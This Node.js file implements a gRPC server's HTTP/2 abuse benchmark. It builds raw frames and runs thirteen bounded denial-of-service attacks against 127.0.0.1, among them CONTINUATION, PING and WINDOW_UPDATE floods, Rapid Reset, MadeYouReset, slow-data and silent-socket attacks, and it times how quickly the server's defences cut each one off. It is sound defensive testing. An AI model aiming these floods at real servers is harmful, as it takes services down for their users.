'use strict';
// The attacks of the abuse bench (bench/abuse.js), in plain JS: a port of what the abuse specs
// (spec/support/abuse*.ts, spec/integration/abuse-*.spec.ts) do, without ts-node or the library's
// own frame code. Everything talks to 127.0.0.1 only, and every loop is bounded in count and in
// time.
//
// An attack is `async (ctx) => result` where ctx = {
//   port, durationMs,             the server and the attack's time bound
//   startDuringCall(),            starts the "fresh call during the attack" (once the attack is in full swing)
//   serverStats(),                resolves with the server's stats line (bench/servers/abuse-server.js)
//   serverMark(),                 ends a phase: resolves with the server's lag maximum since the last mark
//   track(socket),                registers a socket to destroy when the attack ends, whatever happens
// }
// and result = { cutOff: { ms, how } | null, notCutOff?: why, detail: string, ...figures }.
// `cutOff.ms` counts from the attack's first frame (or first socket) to the moment the attacker
// saw the GOAWAY or the close (for stream-level defences: the reset of its streams).
const net = require('node:net');
const hpack = require('hpack.js');

// ----------------------------------------------------------------- frames --

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const T = { DATA: 0, HEADERS: 1, PRIORITY: 2, RST_STREAM: 3, SETTINGS: 4, PUSH_PROMISE: 5, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
const F = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 };
const ERROR_NAMES = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'SETTINGS_TIMEOUT', 'STREAM_CLOSED', 'FRAME_SIZE_ERROR',
  'REFUSED_STREAM', 'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR', 'ENHANCE_YOUR_CALM', 'INADEQUATE_SECURITY', 'HTTP_1_1_REQUIRED'];
const E = Object.fromEntries(ERROR_NAMES.map((name, code) => [name, code]));
const SETTINGS_INITIAL_WINDOW_SIZE = 4;
const MAX_WINDOW = 2 ** 31 - 1;

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const out = Buffer.allocUnsafe(9 + payload.length);
  out.writeUIntBE(payload.length, 0, 3);
  out[3] = type;
  out[4] = flags;
  out.writeUInt32BE(streamId & 0x7fffffff, 5);
  payload.copy(out, 9);
  return out;
}
const u32 = (value) => { const b = Buffer.alloc(4); b.writeUInt32BE(value >>> 0); return b; };
const frames = {
  settings(entries = []) {
    const payload = Buffer.alloc(6 * entries.length);
    entries.forEach(([id, value], i) => { payload.writeUInt16BE(id, 6 * i); payload.writeUInt32BE(value, 6 * i + 2); });
    return frame(T.SETTINGS, 0, 0, payload);
  },
  settingsAck: () => frame(T.SETTINGS, F.ACK, 0),
  headers: (id, block, { endStream = false, endHeaders = true } = {}) => frame(T.HEADERS, (endStream ? F.END_STREAM : 0) | (endHeaders ? F.END_HEADERS : 0), id, block),
  continuation: (id, block, endHeaders) => frame(T.CONTINUATION, endHeaders ? F.END_HEADERS : 0, id, block),
  data: (id, payload, { endStream = false } = {}) => frame(T.DATA, endStream ? F.END_STREAM : 0, id, payload),
  rstStream: (id, code) => frame(T.RST_STREAM, 0, id, u32(code)),
  ping: (data = Buffer.alloc(8)) => frame(T.PING, 0, 0, data),
  windowUpdate: (id, increment) => frame(T.WINDOW_UPDATE, 0, id, u32(increment)),
  priority: (id, dependsOn = 0, weight = 16) => { const p = Buffer.alloc(5); p.writeUInt32BE(dependsOn); p[4] = weight - 1; return frame(T.PRIORITY, 0, id, p); },
  raw: (type, flags, id, payload = Buffer.alloc(0)) => frame(type, flags, id, payload),
};

/** `count` copies of `buf` in one Buffer (a flood batch). */
function repeated(buf, count) {
  return Buffer.concat(Array.from({ length: count }, () => buf));
}

/** `count` copies of `template` (whole frames of one stream) with stream ids firstId, firstId + 2, ... */
function perStreamBatch(template, count, firstId) {
  const heads = [];
  for (let offset = 0; offset < template.length; offset += 9 + template.readUIntBE(offset, 3)) heads.push(offset);
  const out = Buffer.allocUnsafe(template.length * count);
  for (let i = 0; i < count; i++) {
    const base = i * template.length;
    template.copy(out, base);
    for (const offset of heads) out.writeUInt32BE((firstId + 2 * i) & 0x7fffffff, base + offset + 5);
  }
  return out;
}

// --------------------------------------------------------- gRPC payloads --

const ECHO = '/grpc.examples.echo.Echo';
const PATHS = {
  unary: `${ECHO}/UnaryEcho`,
  serverStreaming: `${ECHO}/ServerStreamingEcho`,
  clientStreaming: `${ECHO}/ClientStreamingEcho`,
  bidi: `${ECHO}/BidirectionalStreamingEcho`,
};

function requestHeaders(path = PATHS.unary, extra = []) {
  const list = [[':method', 'POST'], [':scheme', 'http'], [':path', path], [':authority', '127.0.0.1'],
    ['content-type', 'application/grpc'], ['te', 'trailers'], ...extra];
  return list.map(([name, value]) => ({ name, value }));
}

/** A gRPC length-prefixed EchoRequest { message } (protobuf field 1, varint length). */
function echoMessage(text) {
  const value = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
  const varint = [];
  let n = value.length;
  do { let byte = n & 0x7f; n = Math.floor(n / 128); if (n > 0) byte |= 0x80; varint.push(byte); } while (n > 0);
  const protoLength = 1 + varint.length + value.length;
  const out = Buffer.allocUnsafe(5 + protoLength);
  out[0] = 0;
  out.writeUInt32BE(protoLength, 1);
  out[5] = 0x0a;
  Buffer.from(varint).copy(out, 6);
  value.copy(out, 6 + varint.length);
  return out;
}

/** A message prefix announcing `declared` bytes (of which the caller sends only some). */
function messagePrefix(declared) {
  const out = Buffer.alloc(5);
  out.writeUInt32BE(declared, 1);
  return out;
}

// ------------------------------------------------------------ connection --

/**
 * A raw HTTP/2 client connection: its own HPACK encoder (hpack.js, with indexing) and a parser
 * of what the server sends, which tracks GOAWAY, RST_STREAM codes, stream ends and the server's
 * flow-control windows. `read: false` leaves the socket paused (a peer that never reads).
 */
class RawConn {
  static connect(port, { read = true, track } = {}) {
    return new Promise((resolve, reject) => {
      const socket = net.connect({ host: '127.0.0.1', port });
      socket.setNoDelay(true);
      if (track) track(socket);
      const onError = (err) => reject(err);
      socket.once('error', onError);
      socket.once('connect', () => {
        socket.off('error', onError);
        resolve(new RawConn(socket, read));
      });
    });
  }

  constructor(socket, read) {
    this.socket = socket;
    this.encoder = hpack.compressor.create({ table: { size: 4096 } });
    this.decoder = null; // created on demand (decodeHeaders)
    this.pending = Buffer.alloc(0);
    this.counts = new Map();
    this.resetCodes = new Map();
    this.goAway = null; // { code, lastStreamId, debug, at }
    this.closedAt = null;
    this.errorAt = null;
    this.settingsReceived = false;
    this.connectionWindow = 65535;
    this.initialStreamWindow = 65535;
    this.streamWindows = new Map();
    this.ended = new Map(); // streamId -> { how, at }
    this.headerBlocks = []; // [{ streamId, endStream, headers }] when decoding
    this.listeners = new Set();
    socket.on('error', () => { this.errorAt ??= performance.now(); });
    socket.on('close', () => { this.closedAt ??= performance.now(); this.notify(); });
    socket.on('data', (chunk) => this.receive(chunk));
    if (!read) socket.pause();
  }

  /** Decode the server's header blocks (needed to read grpc-status; keeps the HPACK table in sync). */
  decodeHeaders() {
    this.decoder = hpack.decompressor.create({ table: { size: 4096 } });
  }

  get closed() {
    return this.closedAt !== null || this.socket.destroyed;
  }

  encode(headers) {
    this.encoder.write(headers);
    return this.encoder.read();
  }

  send(buffers) {
    if (this.socket.destroyed || !this.socket.writable) return false;
    return this.socket.write(Array.isArray(buffers) ? Buffer.concat(buffers) : buffers);
  }

  sendPreface(settings = []) {
    this.send([PREFACE, frames.settings(settings)]);
  }

  requestFrames(id, headers = requestHeaders(), body = echoMessage('ping'), endStream = true) {
    const block = this.encode(headers);
    if (body === null) return [frames.headers(id, block, { endStream })];
    return [frames.headers(id, block), frames.data(id, body, { endStream })];
  }

  count(type) { return this.counts.get(type) ?? 0; }
  resets(code) { return this.resetCodes.get(code) ?? 0; }
  streamWindow(id) { return this.streamWindows.get(id) ?? this.initialStreamWindow; }
  consume(id, bytes) { this.connectionWindow -= bytes; this.streamWindows.set(id, this.streamWindow(id) - bytes); }

  /** Resolves when something arrives or the socket closes (or after `ms`). */
  waitForEvent(ms) {
    return new Promise((resolve) => {
      const done = () => { clearTimeout(timer); this.listeners.delete(done); resolve(); };
      const timer = setTimeout(done, ms);
      this.listeners.add(done);
    });
  }

  notify() { for (const fn of [...this.listeners]) fn(); }

  destroy() { this.socket.destroy(); }

  receive(chunk) {
    this.pending = this.pending.length ? Buffer.concat([this.pending, chunk]) : chunk;
    let offset = 0;
    while (this.pending.length - offset >= 9) {
      const length = this.pending.readUIntBE(offset, 3);
      if (this.pending.length - offset < 9 + length) break;
      const type = this.pending[offset + 3];
      const flags = this.pending[offset + 4];
      const id = this.pending.readUInt32BE(offset + 5) & 0x7fffffff;
      this.onFrame(type, flags, id, this.pending.subarray(offset + 9, offset + 9 + length));
      offset += 9 + length;
    }
    this.pending = this.pending.subarray(offset);
    this.notify();
  }

  onFrame(type, flags, id, payload) {
    this.counts.set(type, (this.counts.get(type) ?? 0) + 1);
    const now = performance.now();
    switch (type) {
      case T.GOAWAY:
        if (this.goAway === null) {
          this.goAway = { code: payload.readUInt32BE(4), name: ERROR_NAMES[payload.readUInt32BE(4)] ?? String(payload.readUInt32BE(4)),
            lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, debug: payload.subarray(8).toString('latin1'), at: now };
        }
        break;
      case T.RST_STREAM: {
        const code = payload.readUInt32BE(0);
        this.resetCodes.set(code, (this.resetCodes.get(code) ?? 0) + 1);
        if (!this.ended.has(id)) this.ended.set(id, { how: `RST_STREAM ${ERROR_NAMES[code] ?? code}`, at: now });
        break;
      }
      case T.HEADERS: {
        let headers = null;
        if (this.decoder) {
          // Our server sends no padding/priority and whole blocks (END_HEADERS); good enough here.
          this.decoder.write(payload);
          this.decoder.execute();
          headers = [];
          for (let h; (h = this.decoder.read());) headers.push(h);
          this.headerBlocks.push({ streamId: id, endStream: (flags & F.END_STREAM) !== 0, headers });
        }
        if ((flags & F.END_STREAM) && !this.ended.has(id)) {
          const status = headers?.find((h) => h.name === 'grpc-status')?.value;
          this.ended.set(id, { how: status === undefined ? 'trailers' : `trailers grpc-status ${status}`, at: now });
        }
        break;
      }
      case T.DATA:
        if ((flags & F.END_STREAM) && !this.ended.has(id)) this.ended.set(id, { how: 'DATA END_STREAM', at: now });
        break;
      case T.SETTINGS:
        if (flags & F.ACK) break;
        for (let i = 0; i + 6 <= payload.length; i += 6) {
          if (payload.readUInt16BE(i) !== SETTINGS_INITIAL_WINDOW_SIZE) continue;
          const value = payload.readUInt32BE(i + 2);
          const delta = value - this.initialStreamWindow;
          this.initialStreamWindow = value;
          for (const [sid, w] of this.streamWindows) this.streamWindows.set(sid, w + delta);
        }
        if (!this.settingsReceived) {
          this.settingsReceived = true;
          this.send(frames.settingsAck());
        }
        break;
      case T.WINDOW_UPDATE: {
        const increment = payload.readUInt32BE(0) & 0x7fffffff;
        if (id === 0) this.connectionWindow += increment;
        else this.streamWindows.set(id, this.streamWindow(id) + increment);
        break;
      }
      default:
        break;
    }
  }

  /** How the server cut this connection off, or null: GOAWAY (with its code) or the close. */
  cutOff(since) {
    const events = [];
    if (this.goAway) events.push({ ms: this.goAway.at - since, how: `GOAWAY ${this.goAway.name}${this.goAway.debug ? ` "${this.goAway.debug.slice(0, 40)}"` : ''}` });
    const closedAt = this.closedAt ?? this.errorAt;
    if (closedAt !== null) events.push({ ms: closedAt - since, how: 'closed' });
    if (events.length === 0) return null;
    events.sort((a, b) => a.ms - b.ms);
    return { ms: events[0].ms, how: events.map((e) => e.how).join(' + ') };
  }
}

// ------------------------------------------------------------------ helpers --

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const immediate = () => new Promise((resolve) => setImmediate(resolve));

/** Resolves true on 'drain'; false on close, at the deadline, or once stop() holds. */
function waitForDrain(socket, deadline, stop) {
  return new Promise((resolve) => {
    const finish = (drained) => {
      clearInterval(poll);
      socket.off('drain', onDrain);
      socket.off('close', onClose);
      resolve(drained);
    };
    const onDrain = () => finish(true);
    const onClose = () => finish(false);
    const poll = setInterval(() => { if (performance.now() >= deadline || stop?.()) finish(false); }, 10);
    socket.on('drain', onDrain);
    socket.on('close', onClose);
  });
}

/**
 * Writes batch(i) for i = 0, 1, ... with backpressure respected: one batch per event-loop turn,
 * nothing more after write() returns false until 'drain'. Bounded by maxBatches and maxMs.
 */
async function flood(socket, batch, { maxBatches, maxMs, stop }) {
  const started = performance.now();
  const deadline = started + maxMs;
  let batches = 0;
  let bytes = 0;
  const result = (reason) => ({ batches, bytes, ms: performance.now() - started, reason });
  for (;;) {
    if (stop?.()) return result('stop');
    if (socket.destroyed || !socket.writable) return result('closed');
    if (batches >= maxBatches) return result('batches');
    if (performance.now() >= deadline) return result('time');
    const chunk = batch(batches);
    const flowing = socket.write(chunk);
    batches++;
    bytes += chunk.length;
    if (flowing) { await immediate(); continue; }
    const drained = await waitForDrain(socket, deadline, stop);
    if (!drained) {
      if (stop?.()) return result('stop');
      if (socket.destroyed || !socket.writable) return result('closed');
      return result('blocked');
    }
  }
}

/** Waits until predicate() holds (checked on every frame/close and every 20 ms), or the deadline. */
async function waitUntil(conn, predicate, deadline) {
  while (!predicate()) {
    const left = deadline - performance.now();
    if (left <= 0) return false;
    await (conn ? conn.waitForEvent(Math.min(20, left)) : sleep(Math.min(20, left)));
  }
  return true;
}

const FRAMES_PER_BATCH = 2000;
/** Bounds of every flood: at most this many batches (the time bound is the attack's duration). */
const MAX_BATCHES = 20_000; // 40 000 000 frames (the time bound comes first on this machine)

/**
 * The common shape of the frame floods: flood until GOAWAY or close (or the bounds), then give
 * the server 2 s to send its GOAWAY / close the socket.
 */
async function floodToCutOff(ctx, conn, batch, perBatch, unit = 'frames') {
  const started = performance.now();
  let during = false;
  const stop = () => {
    if (!during && performance.now() - started > 0) { during = true; ctx.startDuringCall(); }
    return conn.goAway !== null || conn.closed;
  };
  const sent = await flood(conn.socket, batch, { maxBatches: MAX_BATCHES, maxMs: ctx.durationMs, stop });
  if (!during) ctx.startDuringCall();
  await waitUntil(conn, () => conn.closed, performance.now() + 2000);
  const cutOff = conn.cutOff(started);
  const detail = `≤${(sent.batches * perBatch).toLocaleString('en-US')} ${unit} (${(sent.bytes / 1048576).toFixed(1)} MiB) sent in ${sent.ms.toFixed(0)} ms, flood ended by ${sent.reason}`;
  return { cutOff, sent, detail };
}

// ------------------------------------------------------------------ attacks --

async function continuationFlood(ctx) {
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.sendPreface();
  const block = conn.encode(requestHeaders());
  conn.send(frames.headers(1, block.subarray(0, 4), { endHeaders: false }));
  const batch = repeated(frames.continuation(1, Buffer.alloc(0), false), FRAMES_PER_BATCH);
  return floodToCutOff(ctx, conn, () => batch, FRAMES_PER_BATCH, 'empty CONTINUATION frames');
}

async function priorityFlood(ctx) {
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.sendPreface();
  const batch = repeated(frames.priority(3), FRAMES_PER_BATCH);
  return floodToCutOff(ctx, conn, () => batch, FRAMES_PER_BATCH, 'PRIORITY frames');
}

async function emptyDataFlood(ctx) {
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.sendPreface();
  conn.send(conn.requestFrames(1, requestHeaders(), null, false));
  const batch = repeated(frames.data(1, Buffer.alloc(0)), FRAMES_PER_BATCH);
  return floodToCutOff(ctx, conn, () => batch, FRAMES_PER_BATCH, 'empty DATA frames');
}

async function unknownFrameFlood(ctx) {
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.sendPreface();
  const batch = repeated(frames.raw(0xfa, 0, 0), FRAMES_PER_BATCH);
  return floodToCutOff(ctx, conn, () => batch, FRAMES_PER_BATCH, 'frames of type 0xfa');
}

async function pingFlood(ctx) {
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.sendPreface();
  const batch = repeated(frames.ping(Buffer.from('abuse!!!')), FRAMES_PER_BATCH);
  const out = await floodToCutOff(ctx, conn, () => batch, FRAMES_PER_BATCH, 'PINGs');
  out.detail += `; PING ACKs received: ${conn.count(T.PING)}`;
  return out;
}

/**
 * WINDOW_UPDATE(0, +1) flood from a peer that never reads: a server-streaming call fills the
 * socket (the windows are opened wide first), then the flood. The attacker cannot see a GOAWAY
 * (it does not read); the cut-off is the socket closing (a write fails).
 */
async function windowUpdateFlood(ctx) {
  const conn = await RawConn.connect(ctx.port, { read: false, track: ctx.track });
  conn.send([PREFACE, frames.settings([[SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW]]), frames.windowUpdate(0, 2 ** 30)]);
  conn.send(conn.requestFrames(1, requestHeaders(PATHS.serverStreaming), echoMessage('x'.repeat(100))));
  await sleep(500); // the server writes until the socket buffers are full
  const setup = await ctx.serverMark();
  const batch = repeated(frames.windowUpdate(0, 1), FRAMES_PER_BATCH);
  const started = performance.now();
  const out = await floodToCutOff(ctx, conn, () => batch, FRAMES_PER_BATCH, 'WINDOW_UPDATE(0,+1)');
  const floodPhase = await ctx.serverMark();
  const stats = await ctx.serverStats();
  const serverSide = serverSideCutOff(ctx, stats, started);
  if (serverSide && (!out.cutOff || serverSide.ms < out.cutOff.ms)) out.cutOff = { ms: serverSide.ms, how: `${serverSide.how}${out.cutOff ? ` + ${out.cutOff.how} at ${out.cutOff.ms.toFixed(0)} ms` : ''}` };
  out.detail += `; server event-loop lag: ${setup.lagMaxMs.toFixed(0)} ms while filling the socket (setup, before the flood), ${floodPhase.lagMaxMs.toFixed(0)} ms during the flood`;
  out.detail += `; server: max control items ${stats.maxima.controlItems}, reader throttled ${stats.throttledSeen}, max reader buffered ${kib(stats.maxima.readerBufferedBytes)}, max queued ${kib(stats.maxima.queuedBytes)}`;
  if (!out.cutOff) {
    out.notCutOff = stats.throttledSeen
      ? `server throttled its reader; max control items ${stats.maxima.controlItems}`
      : `server kept reading (updates merged: max control items ${stats.maxima.controlItems})`;
  }
  return out;
}

/** Rapid Reset and MadeYouReset: HEADERS + request ("slow", a 30 s handler) + `provoke(id)` per stream. */
function resetAttack(provoke, what) {
  const STREAMS_PER_BATCH = 500;
  return async (ctx) => {
    const conn = await RawConn.connect(ctx.port, { track: ctx.track });
    conn.sendPreface();
    const headers = requestHeaders();
    const first = conn.encode(headers);
    const steady = conn.encode(headers);
    if (!conn.encode(headers).equals(steady)) throw new Error('the HPACK header block does not settle');
    const body = echoMessage('slow');
    const stream = (id, block) => Buffer.concat([frames.headers(id, block), frames.data(id, body, { endStream: true }), provoke(id)]);
    const template = stream(1, steady);
    const batch = (index) => index > 0
      ? perStreamBatch(template, STREAMS_PER_BATCH, 1 + 2 * STREAMS_PER_BATCH * index)
      : Buffer.concat([stream(1, first), perStreamBatch(template, STREAMS_PER_BATCH - 1, 3)]);
    const out = await floodToCutOff(ctx, conn, batch, STREAMS_PER_BATCH, `streams (${what})`);
    out.detail += `; RST_STREAM from the server: ${conn.count(T.RST_STREAM)} (REFUSED_STREAM ${conn.resets(E.REFUSED_STREAM)})`;
    out.relevantHandlers = true;
    return out;
  };
}

/**
 * A bidi client that never sends WINDOW_UPDATE: the server may send 65 535 bytes and never
 * more, while the client keeps sending echo requests (as fast as the server's windows allow).
 * The defence is per call: the call ends (RESOURCE_EXHAUSTED trailers or RST_STREAM).
 */
async function bidiNoWindow(ctx) {
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.decodeHeaders();
  conn.sendPreface();
  const started = performance.now();
  const deadline = started + ctx.durationMs;
  await waitUntil(conn, () => conn.settingsReceived, deadline);
  conn.send(conn.requestFrames(1, requestHeaders(PATHS.bidi), null, false));
  const message = echoMessage('y'.repeat(16 * 1024 - 16));
  let sent = 0;
  let messages = 0;
  ctx.startDuringCall();
  const MAX_BYTES = 256 * 1024 * 1024;
  let lastSentAt = performance.now();
  while (!conn.ended.has(1) && !conn.closed && sent < MAX_BYTES && performance.now() < deadline) {
    const allowed = Math.min(conn.connectionWindow, conn.streamWindow(1));
    if (allowed < message.length) {
      await conn.waitForEvent(Math.min(50, deadline - performance.now()));
      continue;
    }
    lastSentAt = performance.now();
    const flowing = conn.send(frames.data(1, message));
    conn.consume(1, message.length);
    sent += message.length;
    messages++;
    if (!flowing) await waitForDrain(conn.socket, deadline, () => conn.ended.has(1));
    else if (messages % 16 === 0) await immediate();
  }
  await waitUntil(conn, () => conn.ended.has(1) || conn.closed, performance.now() + 2000);
  const end = conn.ended.get(1);
  const connCut = conn.cutOff(started);
  const cutOff = end ? { ms: end.at - started, how: `call ended: ${end.how}` } : connCut;
  const stats = await ctx.serverStats();
  return {
    cutOff,
    notCutOff: cutOff ? undefined : performance.now() - lastSentAt > 500
      ? `the call stays open; the server stopped granting window once ${(sent / 1048576).toFixed(1)} MiB were in (last DATA at ${((lastSentAt - started) / 1000).toFixed(1)} s)`
      : 'the call kept running and the server kept granting window',
    detail: `${(sent / 1048576).toFixed(1)} MiB (${messages} requests of 16 KiB) sent; server max queued ${kib(stats.maxima.queuedBytes)}${connCut ? `; connection: ${connCut.how}` : ''}`,
  };
}

/**
 * 100 ServerStreamingEcho calls (a million messages each) that are never read, held for most of
 * the attack, then the socket destroyed. The cut-off column shows whether the server closed the
 * connection itself before the destroy; the detail how fast it let go after it.
 */
async function unreadStreamsThenDisconnect(ctx) {
  const conn = await RawConn.connect(ctx.port, { read: false, track: ctx.track });
  const started = performance.now();
  conn.send([PREFACE, frames.settings([[SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW]]), frames.windowUpdate(0, MAX_WINDOW - 65535)]);
  const requests = [];
  for (let i = 0; i < 100; i++) requests.push(...conn.requestFrames(2 * i + 1, requestHeaders(PATHS.serverStreaming), echoMessage('x')));
  conn.send(requests);
  const holdUntil = started + Math.max(1000, ctx.durationMs - 1500);
  while (performance.now() < holdUntil && !conn.closed) {
    await sleep(100);
    const held = await ctx.serverStats();
    if (held.server.connections === 0) break; // the server let go by itself
  }
  const stats = await ctx.serverStats();
  const closedByServer = stats.server.connections === 0;
  const cutOff = conn.cutOff(started) ?? serverSideCutOff(ctx, stats, started) ?? (closedByServer ? { ms: performance.now() - started, how: 'closed by the server (seen in its stats)' } : null);
  const destroyedAt = performance.now();
  ctx.startDuringCall();
  conn.destroy();
  let releasedMs = null;
  while (performance.now() - destroyedAt < 2000) {
    const s = await ctx.serverStats();
    if (s.server.connections === 0 && s.server.streams === 0) { releasedMs = performance.now() - destroyedAt; break; }
    await sleep(20);
  }
  await sleep(Math.max(0, 1000 - (performance.now() - destroyedAt)));
  return {
    cutOff,
    notCutOff: cutOff ? undefined : `attacker disconnected itself after ${(destroyedAt - started).toFixed(0)} ms`,
    detail: `server opened ${stats.events.streamsOpened} streams (at most ${stats.maxima.streams} seen at once by its 100 ms sampler), max queued ${kib(stats.maxima.queuedBytes)}, max control items ${stats.maxima.controlItems}; ` +
      (closedByServer ? 'the server had closed the connection before the destroy' : `after the destroy the server released the connection in ${releasedMs === null ? '>2000' : releasedMs.toFixed(0)} ms`),
  };
}

/**
 * 100 UnaryEcho streams that announce a 1000-byte message and then send 1 byte per second each.
 * The defence (minimum request data rate, 240 B/s after a 5 s grace by default) resets the
 * streams; this attack therefore runs for at least 10 s.
 */
async function slowRequestData(ctx) {
  const STREAMS = 100;
  const durationMs = Math.max(ctx.durationMs, 10_000);
  const conn = await RawConn.connect(ctx.port, { track: ctx.track });
  conn.sendPreface();
  const started = performance.now();
  const deadline = started + durationMs;
  const ids = Array.from({ length: STREAMS }, (_, i) => 2 * i + 1);
  const opening = [];
  for (const id of ids) opening.push(...conn.requestFrames(id, requestHeaders(), messagePrefix(1000), false));
  conn.send(opening);
  ctx.startDuringCall();
  let bytes = 0;
  while (performance.now() < deadline && !conn.closed && conn.goAway === null) {
    const open = ids.filter((id) => !conn.ended.has(id));
    if (open.length === 0) break;
    conn.send(open.map((id) => frames.data(id, Buffer.from('a'))));
    bytes += open.length;
    await waitUntil(conn, () => conn.closed || conn.goAway !== null || ids.every((id) => conn.ended.has(id)), Math.min(deadline, performance.now() + 1000));
  }
  const ended = ids.filter((id) => conn.ended.has(id));
  const last = ended.length ? Math.max(...ended.map((id) => conn.ended.get(id).at)) : null;
  const first = ended.length ? Math.min(...ended.map((id) => conn.ended.get(id).at)) : null;
  const connCut = conn.cutOff(started);
  let cutOff = connCut;
  if (!cutOff && ended.length === STREAMS) cutOff = { ms: last - started, how: `all ${STREAMS} streams reset (${conn.ended.get(ended[0]).how})` };
  const hows = [...new Set(ended.map((id) => conn.ended.get(id).how))].join(', ');
  return {
    cutOff,
    notCutOff: cutOff ? undefined : `${ended.length}/${STREAMS} streams ended within ${durationMs} ms`,
    durationMs,
    detail: `attack ran ${((Math.min(performance.now(), deadline) - started) / 1000).toFixed(1)} s (bound: at least 10 s, for the 5 s grace); ${bytes} bytes sent; ` +
      `${ended.length}/${STREAMS} streams ended${ended.length ? ` (${hows}) between ${(first - started).toFixed(0)} and ${(last - started).toFixed(0)} ms` : ''}`,
  };
}

/**
 * 2000 TCP connections that never send a byte. The server runs with
 * h2grpc.handshake_timeout_ms = 2000 for this attack (bench/abuse.js); it should close each one.
 */
async function silentSockets(ctx) {
  const COUNT = 2000;
  const started = performance.now();
  const openDeadline = started + Math.max(ctx.durationMs, 4000);
  const sockets = [];
  const closedAt = [];
  let failed = 0;
  const lifetimes = [];
  const open = () => new Promise((resolve) => {
    const socket = net.connect({ host: '127.0.0.1', port: ctx.port });
    ctx.track(socket);
    sockets.push(socket); // reads (and drops) the server's SETTINGS; never writes a byte
    let openedAt = null;
    socket.once('connect', () => { openedAt = performance.now(); resolve(true); });
    socket.resume();
    socket.on('error', () => {});
    socket.once('close', () => {
      closedAt.push(performance.now());
      if (openedAt !== null) lifetimes.push(performance.now() - openedAt);
      resolve(false);
    });
  });
  for (let i = 0; i < COUNT && performance.now() < openDeadline; i += 100) {
    const batch = await Promise.all(Array.from({ length: Math.min(100, COUNT - i) }, open));
    failed += batch.filter((ok) => !ok).length;
  }
  const openedMs = performance.now() - started;
  ctx.startDuringCall();
  // The last socket opened gets its 2 s too, plus 3 s of slack.
  await waitUntil(null, () => closedAt.length >= sockets.length, performance.now() + 5000);
  const stats = await ctx.serverStats();
  const all = closedAt.length >= sockets.length;
  closedAt.sort((a, b) => a - b);
  return {
    cutOff: all ? { ms: closedAt[closedAt.length - 1] - started, how: `all ${sockets.length} closed by the server` } : null,
    notCutOff: all ? undefined : `${closedAt.length}/${sockets.length} closed`,
    detail: `${sockets.length} sockets opened in ${openedMs.toFixed(0)} ms (${failed} failed to connect); each lived ${lifetimes.length ? `${Math.min(...lifetimes).toFixed(0)}-${Math.max(...lifetimes).toFixed(0)}` : '-'} ms; ` +
      `server max connections ${stats.maxima.connections}, now ${stats.server.connections}`,
  };
}

/**
 * The server's own account of cutting the attacker off (for attackers that do not read and so
 * cannot see the GOAWAY): its first connection error, on the clock of the attack's start.
 */
function serverSideCutOff(ctx, stats, started) {
  const error = stats.events && stats.events.connectionErrors[0];
  if (!error) return null;
  return { ms: error.atMs - (started - ctx.resetAt), how: `server sent GOAWAY ${error.code} "${error.reason.slice(0, 40)}" (seen in its stats)` };
}

function kib(bytes) {
  return bytes >= 1048576 ? `${(bytes / 1048576).toFixed(1)} MiB` : `${(bytes / 1024).toFixed(0)} KiB`;
}

/**
 * The attack table: id, label, the function, and the server environment it needs
 * (SLOW_UNARY_MS, STREAM_COUNT, ABUSE_SERVER_OPTIONS).
 */
const ATTACKS = [
  { id: 'continuation', label: 'CONTINUATION flood (empty, no END_HEADERS)', run: continuationFlood },
  { id: 'window-update', label: 'WINDOW_UPDATE(0,+1) flood, non-reading peer', run: windowUpdateFlood, env: { STREAM_COUNT: '1000000' } },
  { id: 'rapid-reset', label: 'Rapid Reset (HEADERS+RST vs 30 s handler)', run: resetAttack((id) => frames.rstStream(id, E.CANCEL), 'HEADERS+DATA+RST_STREAM CANCEL'), env: { SLOW_UNARY_MS: '30000' } },
  { id: 'made-you-reset-wu0', label: 'MadeYouReset: WINDOW_UPDATE 0 on streams', run: resetAttack((id) => frames.windowUpdate(id, 0), 'HEADERS+DATA+WINDOW_UPDATE 0'), env: { SLOW_UNARY_MS: '30000' } },
  { id: 'made-you-reset-data', label: 'MadeYouReset: DATA after END_STREAM', run: resetAttack((id) => frames.data(id, echoMessage('too late')), 'HEADERS+DATA+DATA after END_STREAM'), env: { SLOW_UNARY_MS: '30000' } },
  { id: 'priority', label: 'PRIORITY flood', run: priorityFlood },
  { id: 'empty-data', label: 'zero-length DATA flood', run: emptyDataFlood },
  { id: 'unknown-frame', label: 'unknown-frame flood (type 0xfa)', run: unknownFrameFlood },
  { id: 'bidi-no-window', label: 'bidi client never sending WINDOW_UPDATE', run: bidiNoWindow },
  { id: 'unread-streams', label: '100 never-read server streams, then disconnect', run: unreadStreamsThenDisconnect, env: { STREAM_COUNT: '1000000' } },
  { id: 'slow-data', label: 'slow request data (100 streams at 1 B/s)', run: slowRequestData },
  { id: 'silent-sockets', label: '2000 silent sockets (handshake timeout 2 s)', run: silentSockets, env: { ABUSE_SERVER_OPTIONS: JSON.stringify({ 'h2grpc.handshake_timeout_ms': 2000 }) } },
  { id: 'ping', label: 'PING flood', run: pingFlood },
];

module.exports = { ATTACKS, RawConn, frames, requestHeaders, echoMessage, PATHS, flood, sleep, E, T };
